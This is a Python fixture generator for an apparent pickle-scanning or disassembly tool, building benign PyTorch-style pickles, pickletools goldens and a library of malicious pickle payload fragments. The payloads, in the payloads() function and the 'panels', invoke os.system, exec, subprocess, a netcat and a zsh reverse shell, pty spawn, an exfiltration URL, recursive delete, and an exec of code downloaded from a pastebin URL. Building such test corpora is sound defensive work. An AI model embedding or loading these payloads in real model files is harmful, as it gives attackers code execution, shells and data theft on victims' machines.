#!/usr/bin/env python3
"""Regenerates pickle host fixtures, pickletools goldens and the bundled payload library.

Hosts are produced by the real pickle module against stand-in torch modules, so
no torch install is needed. Goldens are pickletools.dis output and serve as the
independent oracle for the C++ disassembler.
"""

import collections
import io
import json
import pathlib
import pickle
import pickletools
import struct
import sys
import types
import zipfile

ROOT = pathlib.Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "tests" / "fixtures" / "pickle"
PAYLOADS = ROOT / "data" / "payloads"


# --- stand-in torch -------------------------------------------------------

torch = types.ModuleType("torch")
torch_utils = types.ModuleType("torch._utils")


def _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks):
    return None


_rebuild_tensor_v2.__module__ = "torch._utils"
_rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2


class FloatStorage:
    pass


class Tensor:
    pass


for cls in (FloatStorage, Tensor):
    cls.__module__ = "torch"
    setattr(torch, cls.__name__, cls)
torch._utils = torch_utils
sys.modules["torch"] = torch
sys.modules["torch._utils"] = torch_utils


class StorageRef:
    def __init__(self, key, numel):
        self.key = key
        self.numel = numel


class FakeTensor:
    def __init__(self, key, size):
        self.key = key
        self.size = tuple(size)

    def __reduce_ex__(self, protocol):
        numel = 1
        for s in self.size:
            numel *= s
        stride = []
        acc = 1
        for s in reversed(self.size):
            stride.insert(0, acc)
            acc *= s
        return (_rebuild_tensor_v2,
                (StorageRef(self.key, numel), 0, self.size, tuple(stride), False,
                 collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def dump(obj, protocol):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def state_dict(layers):
    sd = collections.OrderedDict()
    key = 0
    for i in range(layers):
        sd[f"layers.{i}.weight"] = FakeTensor(str(key), (4, 4))
        key += 1
        sd[f"layers.{i}.bias"] = FakeTensor(str(key), (4,))
        key += 1
    return sd


def config():
    return {
        "model_type": "gpt2",
        "n_embd": 768,
        "layer_norm_epsilon": 1e-05,
        "dropout": 0.1,
        "vocab_size": 50257,
        "big": 2 ** 70,
        "negative": -123456789,
        "tie_word_embeddings": True,
        "pad_token_id": None,
        "architectures": ["GPT2LMHeadModel"],
        "shape": (1, 2, 3),
        "tags": frozenset({"a"}),
        "blob": b"\x00\x01quoted'\"",
        "name": "café ☃",
    }


def hosts():
    out = {}
    out["state_dict_p0"] = dump(state_dict(2), 0)
    out["state_dict_p1"] = dump(state_dict(2), 1)
    out["state_dict_p2"] = dump(state_dict(3), 2)
    out["state_dict_p3"] = dump(state_dict(2), 3)
    out["state_dict_p4"] = dump(state_dict(2), 4)
    out["state_dict_p5"] = dump(state_dict(2), 5)
    out["config_p0"] = dump(config(), 0)
    out["config_p2"] = dump(config(), 2)
    out["config_p4"] = dump(config(), 4)
    out["tensor_class_p4"] = dump({"cls": Tensor, "state": state_dict(1)}, 4)
    out["many_memo_p2"] = dump([f"token_{i}" for i in range(300)], 2)
    out["empty_dict_p2"] = dump({}, 2)
    return out


def torch_zip(pickle_bytes, compression):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as zf:
        for name, data in (("archive/data.pkl", pickle_bytes),
                           ("archive/data/0", bytes(64)),
                           ("archive/version", b"3\n")):
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            zf.writestr(info, data)
    return buf.getvalue()


# --- hand-assembled programs ----------------------------------------------

def op_global(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_binput(i):
    return b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i)


def op_binget(i):
    return b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)


def op_binunicode(s):
    data = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def op_short_binunicode(s):
    data = s.encode("utf-8")
    return b"\x8c" + bytes([len(data)]) + data


def op_binint(v):
    if 0 <= v < 256:
        return b"K" + bytes([v])
    return b"J" + struct.pack("<i", v)


MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"(", b"t", b"\x85", b"\x86", b")"
REDUCE, POP, STOP, MEMOIZE, STACK_GLOBAL = b"R", b"0", b".", b"\x94", b"\x93"
EMPTY_LIST, APPENDS, LIST = b"]", b"e", b"l"

MALHUG_SOURCE = ("exec('''\nimport urllib.request; exec(urllib.request.urlopen("
                 "\"https://pastebin.com/raw/sVvZph7V\").read().decode())\n''') or dict()")


def call(module, name, *arg_ops, memo=None):
    """GLOBAL + args tuple + REDUCE, optionally memoizing like pickle does."""
    nxt = [memo] if memo is not None else None

    def put():
        if nxt is None:
            return b""
        b = op_binput(nxt[0])
        nxt[0] += 1
        return b

    out = op_global(module, name) + put()
    for a in arg_ops:
        out += a + put()
    tuple_op = {0: EMPTY_TUPLE, 1: TUPLE1, 2: TUPLE2}.get(len(arg_ops))
    if tuple_op is None:
        out = op_global(module, name) + put() + MARK + b"".join(arg_ops) + TUPLE + put()
    else:
        out += tuple_op + put()
    return out + REDUCE


def payloads():
    p = []

    def add(name, fragment, description, blocking=False):
        p.append((name, fragment, description, blocking))

    add("builtin_eval_exec", call("__builtin__", "eval", op_binunicode(MALHUG_SOURCE), memo=0),
        "eval of an exec string that downloads and runs remote code")
    add("builtins_exec", call("builtins", "exec", op_binunicode("import os; os.system('id')")),
        "exec of inline source")
    add("os_system", call("os", "system", op_binunicode("touch /tmp/.marker"), memo=0),
        "shell command through os.system")
    add("posix_system", call("posix", "system", op_binunicode("curl -s http://127.0.0.1:8000 | sh")),
        "shell pipeline through posix.system")
    argv = EMPTY_LIST + MARK + op_binunicode("/bin/sh") + op_binunicode("-c") + \
        op_binunicode("id") + APPENDS
    add("subprocess_popen", call("subprocess", "Popen", argv),
        "Popen with an argv list")
    add("subprocess_check_output",
        call("subprocess", "check_output", MARK + op_binunicode("uname") + op_binunicode("-a") + LIST),
        "check_output with an argv list")
    add("execute_both",
        call("execute", "both", op_binunicode("nc -e /bin/sh 127.0.0.1 4444"), memo=0) + op_binput(3),
        "reverse shell through a non-standard module name", blocking=True)
    add("raft_run",
        call("raft", "run", op_binunicode(
            "zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 4444 && "
            "zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"), memo=0),
        "zsh tcp reverse shell through a third-party entry point", blocking=True)
    addr = op_binunicode("127.0.0.1") + op_binint(4444) + TUPLE2
    add("socket_create_connection", call("socket", "create_connection", addr),
        "outbound TCP connection")
    add("stack_global_os_system",
        op_short_binunicode("os") + MEMOIZE + op_short_binunicode("system") + MEMOIZE +
        STACK_GLOBAL + MEMOIZE + op_short_binunicode("id") + MEMOIZE + TUPLE1 + MEMOIZE +
        REDUCE + MEMOIZE,
        "protocol 4 style import resolved from the stack")
    add("runpy_run_path", call("runpy", "run_path", op_binunicode("/tmp/stage2.py")),
        "runs a dropped script")
    add("webbrowser_open", call("webbrowser", "open", op_binunicode("http://127.0.0.1/beacon")),
        "opens a beacon URL")
    add("urllib_urlopen",
        call("urllib.request", "urlopen", op_binunicode("http://127.0.0.1/exfil?d=1")),
        "HTTP request to an exfiltration endpoint")
    add("shutil_rmtree", call("shutil", "rmtree", op_binunicode("/tmp/cache-victim")),
        "recursive delete")
    add("pty_spawn", call("pty", "spawn", op_binunicode("/bin/sh")),
        "interactive shell on a pseudo terminal", blocking=True)
    # getattr(__import__('os'), 'system')('id') with the module name re-read
    # from the memo through 4-byte memo opcodes.
    getattr_chain = (
        op_global("builtins", "getattr")
        + op_global("builtins", "__import__")
        + op_binunicode("os") + op_binput(300) + TUPLE1 + REDUCE
        + op_binunicode("system") + TUPLE2 + REDUCE
        + op_binunicode("echo ") + POP + op_binunicode("id") + TUPLE1 + REDUCE
        + op_binget(300) + POP
    )
    add("getattr_import_chain", getattr_chain,
        "nested getattr/__import__ call chain with memo reuse")
    inst = MARK + op_binunicode("id") + b"i" + b"os\nsystem\n" + POP + \
        call("builtins", "print", op_binunicode("done"))
    add("inst_os_system", inst, "protocol 0 INST call followed by a decoy print")
    add("importlib_import_module",
        call("importlib", "import_module", op_binunicode("ctypes")),
        "dynamic import of ctypes")
    add("time_sleep", call("time", "sleep", op_binint(3600)),
        "stalls the loader for an hour", blocking=True)
    add("builtins_input", call("builtins", "input", op_binunicode("press enter: ")),
        "waits for interactive input", blocking=True)
    return p


def write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def golden(data):
    out = io.StringIO()
    pickletools.dis(data, out)
    return out.getvalue()


def main():
    host_dir = FIXTURES / "hosts"
    golden_dir = FIXTURES / "golden"
    golden_dir.mkdir(parents=True, exist_ok=True)
    for name, data in hosts().items():
        write(host_dir / f"{name}.pkl", data)
        (golden_dir / f"{name}.dis").write_text(golden(data))
    write(host_dir / "torch_zip_stored.pt",
          torch_zip(dump(state_dict(2), 2), zipfile.ZIP_STORED))
    write(host_dir / "torch_zip_deflated.pt",
          torch_zip(dump(state_dict(2), 2), zipfile.ZIP_DEFLATED))

    # Full programs mirroring the three disassembly panels.
    panels = {
        "malhug_eval": b"\x80\x02" + call("__builtin__", "eval", op_binunicode(MALHUG_SOURCE), memo=0) + STOP,
        "pypi_execute_both": b"\x80\x02" + call("execute", "both",
                                                 op_binunicode("nc -e /bin/sh 127.0.0.1 4444"),
                                                 memo=0) + op_binput(3) + STOP,
        "benign_tensor_class": dump({"cls": Tensor, "state": state_dict(1)}, 4),
    }
    for name, data in panels.items():
        write(FIXTURES / "panels" / f"{name}.pkl", data)
        (golden_dir / f"panel_{name}.dis").write_text(golden(data))

    PAYLOADS.mkdir(parents=True, exist_ok=True)
    for old in PAYLOADS.glob("*"):
        old.unlink()
    for name, fragment, description, blocking in payloads():
        write(PAYLOADS / f"{name}.pkl", fragment)
        meta = {"name": name, "blocking": blocking, "description": description}
        (PAYLOADS / f"{name}.json").write_text(json.dumps(meta, indent=2) + "\n")
        # Each fragment must load as a standalone program body.
        pickletools.dis(b"\x80\x02" + fragment + STOP, io.StringIO())


if __name__ == "__main__":
    main()
